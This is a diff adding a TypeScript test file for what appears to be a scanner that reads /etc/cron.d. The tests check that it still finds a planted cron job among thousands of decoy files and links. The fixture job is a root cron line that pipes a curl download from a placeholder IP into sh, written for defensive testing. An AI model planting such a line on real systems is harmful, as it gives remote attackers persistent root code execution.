@@ -1,0 +1,96 @@
+/** One job among more files than anybody reads. */
+import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
+import { linkSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { SourceLog } from '../../model/source-log.ts';
+import { printableText } from '../../model/text.ts';
+import { folderTarget } from '../../target/folder.ts';
+import type { Target } from '../../target/port.ts';
+import { filesIn, mostFiles } from './entry.ts';
+import type { ReadContext } from './reading.ts';
+
+const job = '* * * * * root curl -s http://192.0.2.10/x | sh\n';
+const decoys = mostFiles + 2_000;
+let root: string;
+let folder: string;
+let target: Target;
+let log: SourceLog;
+beforeEach(() => {
+  root = mkdtempSync(join(tmpdir(), 'demine-flood-'));
+  folder = join(root, 'etc/cron.d');
+  mkdirSync(folder, { recursive: true });
+  mkdirSync(join(root, 'usr'));
+  target = folderTarget(root);
+  log = new SourceLog();
+});
+afterEach(async () => {
+  await target.close();
+  rmSync(root, { recursive: true });
+});
+
+const put = (name: string, content: string): void => writeFileSync(join(folder, name), content);
+const found = (matches?: Parameters<typeof filesIn>[3]): readonly string[] => {
+  const context: ReadContext = { target, log };
+  return filesIn(context, 'linux.crontab', printableText('/etc/cron.d'), matches).map(({ name }) => name);
+};
+const times = (count: number, once: (index: number) => void): void => {
+  for (let index = 0; index < count; index += 1) once(index);
+};
+
+describe('a job is read among', () => {
+  const floods: Readonly<Record<string, (index: number) => void>> = {
+    'empty files': (index) => put(`f${index}`, ''),
+    'files that differ in a number': (index) => put(`f${index}`, `* * * * * root true ${index}\n`),
+    'files that differ in words, of one size': (index) =>
+      put(`f${index}`, `# ${index.toString(36).padStart(4, 'x').repeat(10)}\n`),
+    'links to one file': (index) => {
+      if (index === 0) put('f0', '* * * * * root true\n');
+      else linkSync(join(folder, 'f0'), join(folder, `f${index}`));
+    },
+    'links that lead nowhere': (index) => symlinkSync(`gone${index}`, join(folder, `f${index}`)),
+  };
+  for (const [what, decoy] of Object.entries(floods)) {
+    test(what, () => {
+      times(decoys / 2, decoy);
+      put('job', job);
+      times(decoys / 2, (index) => decoy(index + decoys / 2));
+      const names = found();
+      expect(names).toContain('job');
+      expect(names.length).toBeLessThanOrEqual(mostFiles);
+      expect([...log.flooded]).toMatchObject([{ path: '/etc/cron.d', names: decoys + 1 }]);
+    });
+  }
+});
+
+test('a job that is a link to a file is read too', () => {
+  times(decoys, (index) => put(`f${index}`, ''));
+  writeFileSync(join(root, 'usr/job'), job);
+  symlinkSync('/usr/job', join(folder, 'job'));
+  expect(found()).toEqual(['job']);
+});
+
+test('names that nobody asks for do not stand before those that are asked for', () => {
+  times(decoys, (index) => put(`f${index}`, `anything ${index}`));
+  put('job.conf', 'x\n');
+  expect(found((name) => name.endsWith('.conf'))).toEqual(['job.conf']);
+});
+
+test('what was not looked into is counted, and told', () => {
+  // Each begins in its own way, and like a job: more than are kept.
+  times(decoys, (index) =>
+    put(`f${index}`, `curl ${index.toString(2).replaceAll('0', 'o').replaceAll('1', 'l')}\n`),
+  );
+  found();
+  const [flood] = log.flooded;
+  expect(flood?.unread).toBeGreaterThan(0);
+  expect(log.listed.map(({ status, reason }) => `${status}: ${reason}`)).toContain(
+    `truncated: ${decoys} names, ${mostFiles / 2} read, ${flood?.unread} not looked into`,
+  );
+});
+
+test('a folder that holds no more than is read is no flood', () => {
+  times(mostFiles, (index) => put(`f${index}`, ''));
+  expect(found()).toHaveLength(mostFiles);
+  expect([...log.flooded]).toEqual([]);
+});
